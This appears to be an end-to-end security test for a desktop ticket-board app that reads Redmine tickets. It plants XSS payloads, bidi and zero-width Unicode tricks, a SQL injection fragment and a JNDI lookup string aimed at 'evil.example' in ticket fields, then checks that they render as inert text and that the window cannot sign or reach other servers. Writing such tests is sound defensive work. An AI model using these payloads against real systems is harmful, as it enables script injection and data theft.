// Ticket text that would like to be more than text, in the real window; and what that window may not do.
import assert from "node:assert/strict";
import { once } from "node:events";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { connect, firstRun, open, readAll } from "./lib/board.mjs";
import { Desk, gallery } from "./lib/desk.mjs";
import { server } from "./lib/redmine.mjs";
import { steps } from "./lib/steps.mjs";
import { until } from "./lib/wait.mjs";

const CHAIR = { name: "Blessing Nkemelu", login: "bnkemelu" };

test("ticket text is harmless and readable in the window, and that window cannot sign", async (t) => {
  const folder = await gallery("hostile");
  const home = await mkdtemp(join(tmpdir(), "cabinet-window-"));
  const redmine = server();
  // Whatever the text could reach for would arrive here.
  const reached = [];
  const tracker = createServer((request, response) => {
    reached.push(request.url);
    response.end();
  }).listen(0, "127.0.0.1");
  await once(tracker, "listening");
  const elsewhere = `http://127.0.0.1:${tracker.address().port}`;
  const hostile = {
    subject: "<script>window.owned = 1</script> <img src=x onerror=window.owned=2> in the title",
    description: [
      "Raise the session time-out to 30 minutes.",
      "<script>window.owned = 3; document.title = 'owned'; alert(1)</script>",
      `<img src="${elsewhere}/pixel.gif" onerror="window.owned = 4">`,
      `<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>`,
      `!${elsewhere}/textile.gif!`,
      "\"click me\":javascript:window.owned=5",
      "<a href=\"javascript:window.owned=6\" onclick=\"window.owned=7\">or me</a>",
      "<svg onload=window.owned=8><style>*{display:none}</style></svg>",
      "Account \u202Enimda\u202C is renamed, zero\u200Bwidth.",
    ].join("\n\n"),
  };
  // What others than its author add to it, and what has places of its own in the window.
  const comment = [
    "A comment: <script>window.owned = 10</script> <img src=x onerror=window.owned=11> \u202Etxet",
    `<iframe src="${elsewhere}/comment"></iframe> !${elsewhere}/comment.png! "read on":javascript:window.owned=12`,
    "{{include(secret)}} '; drop table changes; -- %s %n ${jndi:ldap://evil.example}",
  ].join("\n\n");
  const section = `Roll out by hand. <svg onload=window.owned=13> <a href="javascript:window.owned=14" onclick="window.owned=15">steps</a> !${elsewhere}/plan.png!`;
  const file = { name: "<img src=x onerror=window.owned=16>\u202Efdp.exe", bytes: new TextEncoder().encode("MZ"), type: "text/html" };
  const line = "A very long description that somebody pasted from a log file.\n";
  const large = { subject: "A pasted log of five megabytes", description: line.repeat(Math.ceil((5 * 1024 * 1024) / line.length)) };
  const project = redmine.small;
  const tickets = [];
  const full = { ...hostile, fields: { "Plan: Approach": section }, file };
  for (const one of [full, large]) tickets.push(await redmine.createChange({ ...one, project }));
  await redmine.call("PUT", `/issues/${tickets[0]}.json`, { issue: { notes: comment } }, redmine.keys.alice);
  const accounts = await redmine.accounts();
  const desk = await Desk.open({ args: ["--data-dir", join(home, "board"), "--automated-test"], folder });
  const { page, driver } = desk;
  const step = steps(t, desk);

  const nothingHappened = async () => {
    assert.equal(await driver.script("return window.owned ?? null"), null, "no script of a ticket ran");
    assert.notEqual(await driver.script("return document.title"), "owned");
    await assert.rejects(driver.command("GET", "/alert/text"), /no such alert/, "no dialog is open");
    assert.match(await driver.script("return location.origin"), /^tauri:\/\/localhost$/, "the window is where it was");
    const elements = await driver.script(
      "return [...document.querySelectorAll('#content :is(script,iframe,object,embed,img,style,a[href^=\"javascript:\" i],a[href^=http])')].map((e) => e.outerHTML)",
    );
    assert.deepEqual(elements, [], "the text made no element that loads, runs or leads anywhere");
    const handlers = await driver.script(
      "return [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on'))",
    );
    assert.deepEqual(handlers, [], "no element carries a handler");
    assert.deepEqual(reached, [], "nothing was asked of another server");
  };

  try {
    await step("a board is made and connected, and reads the project with the hostile tickets", async () => {
      await firstRun(desk, {
        board: "Branch office board",
        chair: { ...CHAIR, account: accounts[CHAIR.login] },
        others: [],
        pin: "lantern-93-orchard",
      });
      await connect(desk, redmine, "branch office");
      await readAll(desk, await redmine.changesIn(project));
      await page.sees("<script>window.owned = 1</script>");
      await nothingHappened();
    });

    await step("script, handlers, frames and links of a ticket are words on the screen", async () => {
      await open(desk, { key: `CHG-${tickets[0]}`, subject: "in the title" });
      await page.sees("Raise the session time-out to 30 minutes.");
      const text = await page.text();
      for (const words of ["<script>window.owned = 3", "<iframe src=", "onerror=", "javascript:window.owned=5", "<svg onload="]) {
        assert.ok(text.includes(words), `“${words}” can be read as it was written`);
      }
      assert.ok(!/[\u200B\u202A-\u202E\u2066-\u2069]/.test(text), "no invisible control reaches the screen");
      assert.match(text, /U\+202E/, "and each is named where it stood");
      await nothingHappened();
      await desk.picture("hostile-text");
      for (const words of ["click me", ">or me<"]) {
        const element = await driver.find(`//*[@id='content']//*[text()[contains(., '${words}')]]`);
        assert.ok(element, `“${words}” is on the screen, to be clicked on`);
        await driver.click(element);
      }
      await nothingHappened();
    });

    await step("a file's name, a section of the plan and a comment are words as well, each on its page", async () => {
      // The server puts `_` in place of what no file's name may hold there.
      for (const { name, keys, at, wanted } of [
        { name: "file", keys: ["1"], at: /tab=(%22)?overview/, wanted: ["img src=x onerror=window.owned=16", "fdp.exe"] },
        { name: "section", keys: ["p"], at: /\/plan$/, wanted: ["Roll out by hand.", "<svg onload=window.owned=13>", "onclick="] },
        { name: "comment", keys: ["u", "5"], at: /tab=(%22)?history/, wanted: ["A comment: <script>", "<iframe src=", "jndi:ldap"] },
      ]) {
        await page.press(...keys);
        await page.at(at);
        for (const words of wanted) await page.sees(words);
        const text = await page.text();
        assert.ok(!/[\u200B\u202A-\u202E\u2066-\u2069]/.test(text), `no invisible control of the ${name} reaches the screen`);
        const element = await driver.find(`//*[@id='content']//*[text()[contains(., '${wanted[0]}')]]`);
        assert.ok(element, `the ${name} is an element of its page`);
        await driver.click(element);
        await desk.picture(`hostile-${name}`);
        await nothingHappened();
      }
    });

    await step("a description of five megabytes opens, in part, and the window stays quick", async () => {
      await open(desk, { key: `CHG-${tickets[1]}`, subject: large.subject });
      await page.sees("very long description");
      await page.sees("more bytes of this text are not shown");
      const length = await driver.script("return document.body.innerText.length");
      assert.ok(length < 2_000_000, `${length} characters are drawn`);
      await desk.picture("five-megabytes");
      const began = Date.now();
      await page.press("2");
      await page.sees("How the score adds up");
      assert.ok(Date.now() - began < 5000, "another tab opens at once");
      await nothingHappened();
    });

    await step("the window that draws tickets cannot sign, even if it were taken over", async () => {
      for (const [command, request] of [
        ["sign", { statement: "x", member: "x", pin: "lantern-93-orchard", keep_unlocked: true }],
        ["signing_view", undefined],
      ]) {
        const answer = await driver.scriptAsync(
          `const [command, request, done] = arguments;
           window.__TAURI_INTERNALS__.invoke(command, request ? { request } : {}).then(() => done("it ran"), (why) => done(String(why?.message ?? why)));`,
          command,
          request ?? null,
        );
        assert.match(answer, /not allowed/, `${command} from the main window: ${answer}`);
      }
    });

    await step("it cannot leave, open another window, or ask another server", async () => {
      const fetched = await driver.scriptAsync(
        "const done = arguments[1]; fetch(arguments[0] + '/fetch').then(() => done('answered'), () => done('refused'))",
        elsewhere,
      );
      assert.equal(fetched, "refused");
      assert.equal(await driver.script("return window.open(arguments[0] + '/window') === null", elsewhere), true);
      await driver.script("location.assign(arguments[0] + '/leave')", elsewhere);
      await until("the window still answers", async () => (await page.place()).startsWith("/changes/"));
      await nothingHappened();
    });
  } finally {
    await desk.close();
    tracker.close();
    await rm(home, { recursive: true, force: true });
  }
});
